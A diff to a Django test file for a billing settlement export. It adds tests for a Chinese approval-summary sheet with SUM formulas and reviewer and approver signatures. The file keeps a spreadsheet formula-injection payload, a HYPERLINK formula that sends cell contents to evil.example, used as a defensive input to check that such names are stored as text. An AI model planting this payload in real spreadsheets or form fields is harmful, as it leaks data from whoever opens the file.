@@ -6,7 +6,6 @@ import io
 from decimal import Decimal
 
 import pytest
-from django.contrib.auth.models import Group
 from django.core.management import CommandError, call_command
 from django.utils import translation
 from openpyxl import Workbook, load_workbook
@@ -15,11 +14,11 @@ from billing import exports
 from billing.errors import BillingError
 from billing.exports import export_settlement
 from billing.models import Statement
-from billing.services import settle
+from billing.services import approve_statement, review_statement, settle
 from config.months import SHANGHAI
 from config.xlsx import text_cell
 from tests.billing.conftest import MONTH, City
-from tests.factories import UserFactory
+from tests.billing.test_settlement import make_finance
 from vouchers.models import Redemption
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
@@ -69,7 +68,7 @@ def test_the_workbook_has_a_summary_and_a_detail_sheet_with_chinese_headers(sett
 
     # then it opens with 汇总 and 明细, Chinese headers and the header row frozen
     workbook = open_workbook(out)
-    assert workbook.sheetnames == ["汇总", "明细"]
+    assert workbook.sheetnames == ["审批汇总", "汇总", "明细"]
     summary_sheet, detail_sheet = workbook["汇总"], workbook["明细"]
     assert rows_of(summary_sheet)[0] == [
         "服务商编码",
@@ -159,11 +158,12 @@ def test_names_that_look_like_formulas_are_written_as_text(settled_city, tmp_pat
     export_settlement(month=MONTH, out=out)
     workbook = open_workbook(out)
 
-    # then no cell in either sheet is a formula, and those names are shown as text
+    # then no cell is a formula but the approval summary's own SUMs, and those names are text
     for sheet in workbook.worksheets:
         for row in sheet.iter_rows():
             for cell in row:
-                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if cell.data_type == "f":
+                    assert sheet.title == "审批汇总" and cell.value.startswith("=SUM("), cell.coordinate
     detail = rows_of(workbook["明细"])[1:]
     senior_names = {row[4] for row in detail}
     assert any(name.startswith("=") for name in senior_names)  # the masked =HYPERLINK… name
@@ -276,12 +276,6 @@ def test_settle_command_prints_a_summary(db, capsys):
             call_command("settle", "--period", "2026-10", "--by", "fin")
 
 
-def make_finance(username):
-    user = UserFactory(username=username)
-    user.groups.add(Group.objects.get_or_create(name="finance")[0])
-    return user
-
-
 def test_settle_command_refuses_a_month_that_has_not_ended(db):
     today = dt.datetime.now(SHANGHAI)
     with translation.override("en"), pytest.raises(CommandError, match="has not ended"):
@@ -318,9 +312,39 @@ def test_a_formula_in_the_csv_is_text(db, tmp_path):
 def test_the_sheets_print_on_a4_landscape_with_the_month_and_the_header_on_every_page(settled_city, tmp_path):
     out = tmp_path / "2026-10.xlsx"
     export_settlement(month=MONTH, out=out)
-    for sheet in open_workbook(out).worksheets:
+    for sheet in open_workbook(out).worksheets[1:]:
         assert (sheet.page_setup.orientation, int(sheet.page_setup.paperSize)) == ("landscape", 9)
         assert sheet.sheet_properties.pageSetUpPr.fitToPage
         assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
         assert sheet.print_title_rows == "$1:$1"
         assert "2026年10月" in sheet.oddHeader.center.text
+
+
+def test_the_approval_summary_has_a_title_a_row_per_provider_sum_formulas_and_signatures(
+    settled_city, tmp_path, finance_user
+):
+    # given a settled October whose provider A statement was reviewed and approved
+    a = Statement.objects.get(period__month=MONTH, provider__code="prov-a")
+    review_statement(statement_id=a.pk, by=finance_user)
+    approve_statement(statement_id=a.pk, by=make_finance("sun"))
+    out = tmp_path / "2026-10.xlsx"
+    export_settlement(month=MONTH, out=out, provider_code="prov-a")
+
+    # then the first sheet has the title, the provider by name, SUM formulas and signature lines
+    sheet = open_workbook(out)["审批汇总"]
+    rows = rows_of(sheet)
+    assert "2026年10月" in rows[0][0] and "民政局" in rows[0][0]
+    assert rows[3][:4] == ["序号", "服务商名称", "状态", "核销笔数"]
+    provider_row = rows[4]
+    assert (provider_row[1], provider_row[2], provider_row[3]) == (
+        a.provider.name,
+        "已审批",
+        a.redemption_count,
+    )
+    assert Decimal(str(provider_row[6])) == a.total_amount.amount
+    assert rows[5][0] == "合计" and rows[5][6] == "=SUM(G5:G5)"
+    assert sheet.print_title_rows == "$1:$4"
+    texts = [row[0] for row in rows if row and isinstance(row[0], str)]
+    assert any(text.startswith("编制人：test") for text in texts)
+    assert any(text.startswith("复核人：finance-tester") for text in texts)
+    assert any(text.startswith("审批人：sun") for text in texts)
